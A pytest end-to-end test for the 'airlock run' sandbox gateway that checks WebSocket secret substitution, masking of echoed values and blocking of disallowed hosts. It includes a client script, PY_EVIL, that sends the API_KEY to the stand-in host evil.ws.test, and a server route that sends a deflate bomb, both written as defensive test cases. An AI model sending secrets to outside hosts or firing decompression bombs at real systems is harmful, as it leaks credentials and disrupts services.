"""`airlock run` with WebSocket (issue 14): unmodified python websockets and node ws clients at
their defaults (both negotiate permessage-deflate) inside the sandbox talk to a real python
websockets server over TLS. The handshake's placeholder is substituted (header scope), a
message's placeholder is substituted at the allowed host (the secret's body scope: a message is
a body), the server's echoes of the value come back masked whether compressed or not and however
the frames cut them, and a placeholder in a message to a host the secret does not allow is a
violation that never reaches that host.

  sandbox ── its gateway ── host netns HOST_IP ──veth── UP_IP upstream netns
  upstream: a python websockets server (TLS, :443, certificate from a test CA the gateway trusts)
  DNS: a dnsmasq on the host's loopback answers api.ws.test and evil.ws.test.

The server records what it received (handshake Authorization, negotiated extensions, messages)
as JSON lines; the test compares them with assert_equal_secret and never prints them. Needs root,
python3-websockets and node's ws (scripts/install-deps puts it in /usr/local/lib/airlock-e2e).
"""
import json
import os
import textwrap

import pytest

from netlab import Lab, airlock_run, TAG, assert_absent, assert_equal_secret, fake_value, link_addresses, sh, wait_listening

AIRLOCK = os.environ.get("AIRLOCK_BIN", "airlock")
PY = "/usr/bin/python3"
NODE_MODULES = "/usr/local/lib/airlock-e2e/node_modules"
UPNS = f"alwsu{TAG}"
HOST_IF, UP_IF = f"alwsh{TAG}", f"alwsp{TAG}"
HOST_IP, UP_IP, _, _ = link_addresses()  # this run's own /30 on the host
ALLOWED, EVIL = "api.ws.test", "evil.ws.test"

# /echo: first sends "auth:" + the handshake's Authorization (what the server received, the
# real value at the allowed host), then echoes every message with "echo:" in front.
# /fragments: the same, every message sent fragmented in 3-byte frames (a value cut by frames).
SERVER = r"""
import asyncio, json, ssl, sys
import websockets
cert, key, record, host = sys.argv[1:5]

def log(entry):
    with open(record, "a") as f:
        f.write(json.dumps(entry) + "\n")

def pieces(m):
    return [m[i:i + 3] for i in range(0, len(m), 3)]

async def handler(ws):
    path = ws.path
    auth = ws.request_headers.get("Authorization", "")
    ext = [e.name for e in ws.extensions]
    log({"path": path, "auth": auth, "ext": ext})
    async def send(m):
        if path.startswith("/fragments"):
            await ws.send(pieces(m))
        else:
            await ws.send(m)
    if path.startswith("/bomb"):  # 32 MiB of one byte: a few KiB once deflated
        await ws.send("a" * (32 << 20))
        await asyncio.sleep(5)
        return
    await send("auth:" + auth)
    async for m in ws:
        log({"path": path, "msg": m if isinstance(m, str) else m.decode("latin-1"), "binary": not isinstance(m, str)})
        await send(("echo:" + m) if isinstance(m, str) else (b"echo:" + m))

async def main():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    async with websockets.serve(handler, host, 443, ssl=ctx, max_size=2**22):
        await asyncio.Future()

asyncio.run(main())
"""

PY_CLIENT = r"""
import asyncio, json, os, sys
import websockets
url, mode = sys.argv[1:3]
key = os.environ["API_KEY"]

async def main():
    kw = {"compression": None} if mode == "plain" else {}
    try:
        async with websockets.connect(url, extra_headers={"Authorization": "Bearer " + key}, **kw) as ws:
            print("ext", ",".join(e.name for e in ws.extensions))
            print(await ws.recv())
            msg = json.dumps({"key": key})
            if mode == "fragmented":
                await ws.send([msg[:10], msg[10:14], msg[14:]])  # the placeholder cut twice
            else:
                await ws.send(msg)
            print(await ws.recv())
            await ws.send(b"bin:" + key.encode())
            print((await ws.recv()).decode())
    except (websockets.exceptions.ConnectionClosedError, OSError) as e:
        print("closed", type(e).__name__)

asyncio.run(main())
"""

# The handshake carries no placeholder here: only the message does.
PY_EVIL = r"""
import asyncio, os, sys
import websockets
async def main():
    try:
        async with websockets.connect(sys.argv[1]) as ws:
            print(await ws.recv())
            await ws.send('{"key": "%s"}' % os.environ["API_KEY"])
            print(await ws.recv())
    except (websockets.exceptions.ConnectionClosedError, OSError) as e:
        print("blocked", type(e).__name__)
asyncio.run(main())
"""

PY_BOMB = r"""
import asyncio, sys
import websockets
async def main():
    try:
        async with websockets.connect(sys.argv[1], max_size=None) as ws:
            m = await ws.recv()
            print("received", len(m))
    except websockets.exceptions.ConnectionClosedError as e:
        print("closed", e.rcvd.code if e.rcvd else None)
    except OSError as e:
        print("reset", type(e).__name__)
asyncio.run(main())
"""

NODE_CLIENT = r"""
const WebSocket = require("ws");
const key = process.env.API_KEY;
const ws = new WebSocket(process.argv[2], { headers: { Authorization: "Bearer " + key } });
const got = [];
ws.on("open", () => console.log("ext", ws.extensions));
ws.on("message", (data, isBinary) => {
  got.push(data.toString());
  console.log(data.toString());
  if (got.length === 1) ws.send('{"key": "' + key + '"}');
  else if (got.length === 2) ws.send(Buffer.from("bin:" + key), { binary: true });
  else ws.close();
});
ws.on("error", (e) => console.log("error", e.message));
"""


class World:
    def __init__(self, lab):
        self.lab = lab
        os.chmod(lab.dir, 0o755)
        self.value = fake_value()

    def setup(self):
        lab = self.lab
        lab.netns(UPNS)
        lab.veth(HOST_IF, UP_IF, None, UPNS)
        sh("ip", "addr", "add", f"{HOST_IP}/30", "dev", HOST_IF)
        sh("ip", "link", "set", HOST_IF, "up")
        sh("ip", "-n", UPNS, "addr", "add", f"{UP_IP}/30", "dev", UP_IF)
        sh("ip", "-n", UPNS, "link", "set", UP_IF, "up")
        lab.ca("ca")
        lab.leaf("server", "ca", f"DNS:{ALLOWED},DNS:{EVIL}")
        self.record = lab.path("received.jsonl")
        server = lab.write("ws_server.py", SERVER)
        lab.start(["ip", "netns", "exec", UPNS, PY, server, lab.path("server.pem"), lab.path("server.key"),
                   self.record, UP_IP], "ws_server.stderr")
        wait_listening(UPNS, [f"{UP_IP}:443"], "the WebSocket server listening")
        self.dns_port = lab.dnsmasq([f"--host-record={ALLOWED},{UP_IP}", f"--host-record={EVIL},{UP_IP}"])
        self.config = lab.write("airlock.toml", textwrap.dedent(f"""\
            [network]
            egress = {json.dumps([f"allow@{UP_IP}:tcp:443"])}
            [[network.upstream_ca]]
            file = "{lab.path('ca.pem')}"

            [[secret]]
            env = "API_KEY"
            value_from = "env:AIRLOCK_E2E_WS_KEY"
            allow_hosts = ["{ALLOWED}"]
            inject = {{ body = true }}

            [gateway]
            home = "{lab.path('home')}"
            audit_log = "{lab.path('audit.jsonl')}"
            """))

    def run(self, cmd, timeout=120):
        return airlock_run(self.value, "AIRLOCK_E2E_WS_KEY", self.lab.path("home"), self.config, self.dns_port,
                           cmd, timeout)

    def received(self, path):
        """What the server recorded for connections to `path` (checked never to be printed)."""
        if not os.path.exists(self.record):
            return []
        with open(self.record) as f:
            return [json.loads(line) for line in f if json.loads(line)["path"] == path]

    def audit(self):
        with open(self.lab.path("audit.jsonl")) as f:
            text = f.read()
        assert_absent(self.value, text, "the audit log")
        return [json.loads(line) for line in text.splitlines()]


@pytest.fixture(scope="module")
def world():
    with Lab("airlock-ws-") as lab:
        w = World(lab)
        w.setup()
        yield w


def guest_script(name, script, command):
    """A guest shell that writes `script` to /tmp/<name> and runs `command` on it."""
    return ["/bin/sh", "-c", f"cat > /tmp/{name} <<'AIRLOCK_EOF'\n{script}\nAIRLOCK_EOF\n{command}"]


def guest_python(script, *args):
    return guest_script("c.py", script, f"{PY} /tmp/c.py {' '.join(args)}")


def guest_node(url):
    assert os.path.exists(os.path.join(NODE_MODULES, "ws", "package.json")), \
        "node's ws is missing: run scripts/install-deps"
    return guest_script("c.js", NODE_CLIENT, f"NODE_PATH={NODE_MODULES} node /tmp/c.js {url}")


def check_allowed_session(world, path, stdout, ext):
    """The server got the value in the handshake and in both messages; the guest saw it masked."""
    __tracebackhide__ = True
    stars = "*" * len(world.value)
    head, *messages = world.received(path)
    assert_equal_secret(head["auth"], "Bearer " + world.value, "the handshake's Authorization at the server")
    assert head["ext"] == ext
    assert len(messages) == 2
    assert_equal_secret(messages[0]["msg"], json.dumps({"key": world.value}), "the text message at the server")
    assert_equal_secret(messages[1]["msg"], "bin:" + world.value, "the binary message at the server")
    assert messages[1]["binary"]
    lines = stdout.splitlines()
    assert lines[-3:] == ["auth:Bearer " + stars, "echo:" + json.dumps({"key": stars}), "echo:bin:" + stars], \
        "the guest did not get the masked echoes"


@pytest.mark.parametrize("mode,path,ext", [
    ("default", "/echo/py-deflate", ["permessage-deflate"]),
    ("plain", "/echo/py-plain", []),
    ("default", "/fragments/py-deflate", ["permessage-deflate"]),
    ("plain", "/fragments/py-plain", []),
    ("fragmented", "/fragments/py-frag-up", ["permessage-deflate"]),
])
def test_python_websockets_substituted_and_echo_masked(world, mode, path, ext):
    proc = world.run(guest_python(PY_CLIENT, f"wss://{ALLOWED}{path}", mode))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[0] == "ext " + ",".join(ext), proc.stdout
    check_allowed_session(world, path, proc.stdout, ext)
    assert "a response echoed a secret value; masked" in proc.stderr


def test_node_ws_substituted_and_echo_masked(world):
    path = "/echo/node"
    proc = world.run(guest_node(f"wss://{ALLOWED}{path}"))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[0] == "ext permessage-deflate", proc.stdout
    check_allowed_session(world, path, proc.stdout, ["permessage-deflate"])


def test_node_ws_fragmented_echo_masked(world):
    path = "/fragments/node"
    proc = world.run(guest_node(f"wss://{ALLOWED}{path}"))
    assert proc.returncode == 0, proc.stderr
    check_allowed_session(world, path, proc.stdout, ["permessage-deflate"])


@pytest.mark.parametrize("path", ["/echo/evil-deflate", "/fragments/evil"])
def test_a_placeholder_in_a_message_to_another_host_is_a_violation(world, path):
    proc = world.run(guest_python(PY_EVIL, f"wss://{EVIL}{path}"))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == ["auth:", "blocked ConnectionClosedError"], proc.stdout
    head, *messages = world.received(path)
    assert head["auth"] == ""
    assert messages == [], "the placeholder reached a host the secret does not allow"
    assert "secret violation, secret API_KEY, host evil.ws.test" in proc.stderr
    violations = [r for r in world.audit() if r["event"] == "violation" and r["host"] == EVIL]
    assert violations and "WebSocket message" in violations[-1]["reason"]


def test_a_deflate_bomb_from_the_server_fails_the_connection(world):
    proc = world.run(guest_python(PY_BOMB, f"wss://{ALLOWED}/bomb"))
    assert proc.returncode == 0, proc.stderr
    # The close frame (1009) reaches the guest before the reset; the message never does.
    assert proc.stdout == "closed 1009\n", proc.stdout
    (head,) = world.received("/bomb")
    assert head["ext"] == ["permessage-deflate"]
    blocked = [r for r in world.audit() if r["event"] == "blocked" and r.get("direction") == "response"]
    assert blocked and "decompression-ratio" in blocked[-1]["reason"], blocked
